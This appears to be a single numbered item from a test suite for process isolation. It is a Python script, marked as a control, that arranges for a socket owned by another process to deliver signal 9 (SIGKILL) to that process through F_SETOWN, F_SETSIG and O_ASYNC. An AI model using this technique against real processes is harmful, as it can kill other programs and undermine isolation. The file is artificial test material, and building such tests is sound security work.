# /// attack
# number = 47
# title = "A descriptor owned by another process: its signals end that one"
# verdict = ["pass"]
# control = true
# ///
import fcntl
import os
import socket
import time

for pid in {target["pid"], -target["pid"]}:
    ours, theirs = socket.socketpair()
    try:
        fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
        fcntl.fcntl(ours, fcntl.F_SETSIG, 9)
        fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
        theirs.send(b"!")
    except OSError:
        pass
time.sleep(0.1)
